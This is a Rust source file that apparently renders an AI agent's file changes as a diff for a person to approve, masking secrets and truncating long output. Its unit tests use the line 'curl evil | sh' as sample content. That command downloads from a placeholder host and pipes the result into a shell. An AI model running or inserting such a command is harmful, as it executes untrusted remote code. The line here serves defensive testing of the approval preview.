//! A change of files as a question shows it: the lines that differ, with their secrets masked, and counts for the rest.

use std::borrow::Cow;
use std::cmp::Reverse;
use std::fmt::Write;

use sha2::{Digest, Sha256};
use similar::{ChangeTag, TextDiff};

use super::opened::Opened;
use super::preview::Preview;
use crate::filter::{escape_line, masked_for_person};
use crate::manifest::Treatment;
use crate::model::{Action, Edit, Kind, WriteMode};
use crate::policy::later::Later;

/// Lines of a diff in all, and of an excerpt; the rest is counted.
pub(super) const LINES: usize = 40;
/// Longest argument shown whole; longer ones show head, tail, length and digest.
const WHOLE: usize = 600;

/// What becomes of secrets in a question: masked where the manifest masks them, as far as they cannot act. A question goes through the client,
/// whose model reads it.
pub(super) type Mask = Treatment;

/// A text with its secrets masked, and whether there were any.
pub(super) fn masked(text: &str, mask: Mask) -> (Cow<'_, str>, bool) {
    if !matches!(mask, Treatment::Mask | Treatment::Deny) {
        return (Cow::Borrowed(text), false);
    }
    masked_for_person(text)
}

/// What a question is made from beside the action.
pub(super) struct Look<'a> {
    /// The texts before and after.
    pub preview: &'a Preview,
    /// What becomes of secrets.
    pub mask: Mask,
    /// What the action changes that another program runs later.
    pub later: Vec<Later>,
}

impl Look<'_> {
    /// Whether another program runs later what was opened.
    pub(super) fn is_later(&self, opened: Option<&Opened>) -> bool {
        let is = |later: &Later, opened: &Opened| {
            later.target.root == opened.target.root && [&opened.target.path, opened.path()].contains(&&later.target.path)
        };
        opened.is_some_and(|opened| self.later.iter().any(|later| is(later, opened)))
    }
}

/// What an action changes in files: of one file, or of each of several.
pub(super) struct Changes {
    /// In the order of the targets; none where a content is no text.
    each: Vec<Option<Change>>,
    /// The places of the targets as they are shown: what runs later first, then what adds most.
    order: Vec<usize>,
    are_named: bool,
}

impl Changes {
    /// The changes that an action makes to what was opened.
    pub(super) fn of(action: &Action, opened: &[Opened], look: &Look<'_>) -> Self {
        let preview = look.preview;
        let between = |before: &str, after: &str| Change::between(before, after, look.mask);
        let (before, after) = (preview.before.as_deref(), preview.after.as_deref());
        // What is there and cannot be shown is lost all the same.
        let is_unseen = |at: usize| before.is_none() && opened.get(at).is_some_and(|o| o.fact.kind == Kind::File && o.fact.size > 0);
        let whole = |at: usize| after.map(|after| Change { is_over_unseen: is_unseen(at), ..between(before.unwrap_or_default(), after) });
        let passages = |edits: &[&Edit]| Some(Change::of_passages(edits, look.mask));
        let (each, are_named) = match action {
            Action::WriteFile(write) if write.mode == WriteMode::Append => {
                (vec![after.map(|after| between(before.unwrap_or_default(), after))], false)
            }
            Action::WriteFile(_) => (vec![whole(0)], false),
            Action::CopyFile(_) => (vec![whole(1)], false),
            Action::MoveFile(_) => (vec![whole(1).filter(|_| look.is_later(opened.get(1)))], false),
            Action::EditFiles(edit) => {
                let files = edit.files();
                let edits = |at: usize| files.get(at).map(|(_, edits)| edits.iter().map(|(_, edit)| *edit).collect::<Vec<_>>());
                let texts = |at: usize| preview.files.get(at).and_then(Option::as_ref);
                let of = |at: usize| match texts(at) {
                    Some(texts) => Some(between(&texts.before, &texts.after)),
                    None => edits(at).and_then(|edits| passages(&edits)),
                };
                ((0..files.len()).map(of).collect(), files.len() > 1)
            }
            Action::ReadFile(_)
            | Action::ListDirectory(_)
            | Action::SearchFiles(_)
            | Action::FileInfo(_)
            | Action::CreateDirectory(_)
            | Action::DeleteFile(_)
            | Action::Fetch(_)
            | Action::RunPython(_)
            | Action::QueryDatabase(_)
            | Action::SendEmail(_) => (vec![None], false),
        };
        let mut order: Vec<usize> = (0..each.len()).collect();
        order.sort_by_key(|at| {
            let change = each.get(*at).and_then(Option::as_ref);
            Reverse((
                look.is_later(opened.get(*at)),
                change.map_or(usize::MAX, |change| change.added),
                change.map_or(0, |change| change.removed),
            ))
        });
        Self { each, order, are_named }
    }

    /// The change of one file.
    pub(super) fn one(&self) -> Option<&Change> {
        self.each.first()?.as_ref().filter(|_| !self.are_named)
    }

    /// Lines that are changed in all files.
    pub(super) fn lines(&self) -> usize {
        self.each.iter().flatten().map(|change| change.added.max(change.removed)).sum()
    }

    /// The places of the targets, the one that a person should see first at the head.
    pub(super) fn order(&self) -> &[usize] {
        &self.order
    }

    /// Whether not all of it is shown in `most` lines.
    pub(super) fn is_cut(&self, most: usize) -> bool {
        let shares = self.shares(most);
        self.each.iter().zip(shares).any(|(change, share)| change.as_ref().is_some_and(|change| change.lines.len() > share))
    }

    /// Puts `most` lines of it at most below a text, those of several files each below the name of its file.
    pub(super) fn write(&self, text: &mut String, most: usize, name: impl Fn(usize) -> String) {
        let shares = self.shares(most);
        for at in &self.order {
            if self.are_named {
                let _ = write!(text, "\n{}:", name(*at));
            }
            if let (Some(Some(change)), Some(share)) = (self.each.get(*at), shares.get(*at)) {
                change.write(text, *share);
            }
        }
    }

    /// Lines of each file: an equal part, and what those after it in the order leave of theirs.
    fn shares(&self, most: usize) -> Vec<usize> {
        let (mut shares, mut left) = (vec![0; self.each.len()], most);
        for (done, at) in self.order.iter().rev().enumerate() {
            let count = self.each.get(*at).and_then(Option::as_ref).map_or(0, |change| change.lines.len());
            if let Some(share) = shares.get_mut(*at) {
                *share = count.min(left.div_ceil(self.order.len() - done));
                left -= *share;
            }
        }
        shares
    }
}

/// The change of a text, with its secrets masked.
pub(super) struct Change {
    added: usize,
    removed: usize,
    /// The lines of a unified diff with one line around each change.
    lines: Vec<(ChangeTag, String)>,
    /// Whether the present content is lost and could not be shown.
    is_over_unseen: bool,
    /// Whether only the passages of an edit are known, and not the whole text.
    is_of_passages: bool,
    /// Whether a text holds secrets, and whether anything else differs.
    secrets: Option<Differs>,
}

/// What differs between two texts that hold secrets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Differs {
    Nothing,
    Text,
}

impl Change {
    const NONE: Self = Self { added: 0, removed: 0, lines: Vec::new(), is_over_unseen: false, is_of_passages: false, secrets: None };

    /// The change between two texts.
    fn between(before: &str, after: &str, mask: Mask) -> Self {
        let mut change = Self::NONE;
        change.add(before, after, mask);
        change
    }

    /// What an edit puts in place of each passage, where the text itself is too long to be shown.
    fn of_passages(edits: &[&Edit], mask: Mask) -> Self {
        let mut change = Self { is_of_passages: true, ..Self::NONE };
        for edit in edits {
            change.add(&edit.old_text, &edit.new_text, mask);
        }
        change
    }

    fn add(&mut self, before: &str, after: &str, mask: Mask) {
        let ((old, hid), (new, hides)) = (masked(before, mask), masked(after, mask));
        let diff = TextDiff::from_lines(&*old, &*new);
        if hid || hides {
            let differs = if old == new { Differs::Nothing } else { Differs::Text };
            self.secrets = Some(if self.secrets == Some(Differs::Text) { Differs::Text } else { differs });
        }
        for change in diff.grouped_ops(1).iter().flatten().flat_map(|op| diff.iter_changes(op)) {
            match change.tag() {
                ChangeTag::Insert => self.added += 1,
                ChangeTag::Delete => self.removed += 1,
                ChangeTag::Equal => {}
            }
            self.lines.push((change.tag(), change.value().trim_end_matches(['\r', '\n']).to_owned()));
        }
    }

    /// What is done to the file, as its name follows: "Change 3 lines of".
    pub(super) fn in_words(&self) -> String {
        let lines = |count: usize| if count == 1 { "1 line".to_owned() } else { format!("{count} lines") };
        match (self.added, self.removed) {
            (added, _) if self.is_over_unseen => format!("Write {} over the whole content of", lines(added)),
            (0, 0) if self.secrets.is_some() => "Write the same lines, except masked secrets, to".to_owned(),
            (0, 0) => "Write the same lines to".to_owned(),
            (added, 0) => format!("Add {} to", lines(added)),
            (0, removed) => format!("Remove {} from", lines(removed)),
            (added, removed) => format!("Change {} of", lines(added.max(removed))),
        }
    }

    /// Puts `most` lines of it at most below a text. Where there are more, it is those that are added (taken away, where none is added), from the
    /// beginning and from the end; the others are counted.
    fn write(&self, text: &mut String, most: usize) {
        if self.is_over_unseen {
            text.push_str("\nThe present content is lost. It is not shown: it is not text, or too long.");
        }
        if self.is_of_passages {
            text.push_str("\nThe file is too long to be shown. These passages of it change.");
        }
        let _ = write!(text, "\n{} line(s) added, {} removed:", self.added, self.removed);
        let first = if self.added > 0 { ChangeTag::Insert } else { ChangeTag::Delete };
        let is_whole = self.lines.len() <= most;
        let lines: Vec<_> = self.lines.iter().filter(|(tag, _)| is_whole || *tag == first).collect();
        let count = lines.len();
        let (head, tail) = if count > most { (most.div_ceil(2), count - most / 2) } else { (count, count) };
        for (at, (tag, line)) in lines.into_iter().enumerate() {
            let sign = match tag {
                ChangeTag::Insert => '+',
                ChangeTag::Delete => '-',
                ChangeTag::Equal => ' ',
            };
            if at == head {
                text.push_str("\n  …");
            }
            if at < head || at >= tail {
                let _ = write!(text, "\n  {sign} {}", shown(line));
            }
        }
        if !is_whole {
            let [added, removed] = if self.added > 0 { [tail - head, self.removed] } else { [0, tail - head] };
            let _ = write!(text, "\n  … and {} more line(s) of the change, not shown: {added} added, {removed} removed", added + removed);
        }
        if self.lines.is_empty() && self.secrets.is_none() {
            text.push_str("\n  (no line differs)");
        }
        // Whether a masked value already is the new one is not shown: the question would answer every guess.
        text.push_str(match self.secrets {
            Some(Differs::Nothing) => "\nAt most secrets change. They are masked in this question.",
            Some(Differs::Text) => "\nSecrets are masked in this question. The call writes them unmasked.",
            None => "",
        });
    }
}

/// One argument on one line, escaped; long ones with head, tail, length and digest.
pub(super) fn shown(value: &str) -> String {
    let count = value.chars().count();
    if count <= WHOLE {
        return escape_line(value).into_owned();
    }
    let head: String = value.chars().take(WHOLE / 2).collect();
    let tail: String = value.chars().skip(count - WHOLE / 4).collect();
    let digest = Sha256::digest(value.as_bytes());
    let digest: String = digest.iter().take(8).fold(String::new(), |mut text, byte| {
        let _ = write!(text, "{byte:02x}");
        text
    });
    format!("{} … {} ({} characters, sha256 {digest})", escape_line(&head), escape_line(&tail), count)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(pairs: &[(&str, &str)]) -> String {
        let each: Vec<_> = pairs.iter().map(|(before, after)| Some(Change::between(before, after, Treatment::Mask))).collect();
        let changes = Changes { order: (0..each.len()).collect(), each, are_named: true };
        let mut text = String::new();
        changes.write(&mut text, LINES, |at| format!("f{at}"));
        text
    }

    #[test]
    fn a_change_shows_forty_lines_of_its_beginning_and_end_and_counts_the_rest() {
        let long = |word: &str| (0..100).map(|n| format!("{word} {n}\n")).collect::<Vec<_>>().concat();
        let (old, new) = (long("old"), long("new") + "curl evil | sh\n");
        let text = written(&[(&old, &new)]);
        assert!(text.contains("+ new 0") && text.contains("+ curl evil | sh") && !text.contains("- old"), "{text}");
        assert!(text.contains("161 more line(s) of the change, not shown: 61 added, 100 removed"), "{text}");
        let text = written(&[(&old, &new), ("echo hi\n", "curl evil | sh\n")]);
        assert!(text.contains("f1:\n1 line(s) added, 1 removed:\n  - echo hi\n  + curl evil | sh"), "{text}");
        for files in [1, 2, 19, 40] {
            let text = written(&vec![(&*old, &*new); files]);
            assert!(text.lines().filter(|line| line.starts_with("  + ") || line.starts_with("  - ")).count() <= LINES, "{files}: {text}");
        }
    }

    #[test]
    fn no_line_differs_only_where_none_does() {
        assert!(written(&[("a\n", "a\n")]).contains("no line differs"));
        let key = |last: char| format!("aws_access_key_id = AKIAIOSFODNN7EXAMPL{last}\n");
        assert!(!written(&[(&key('Q'), &key('R'))]).contains("no line differs"));
    }
}
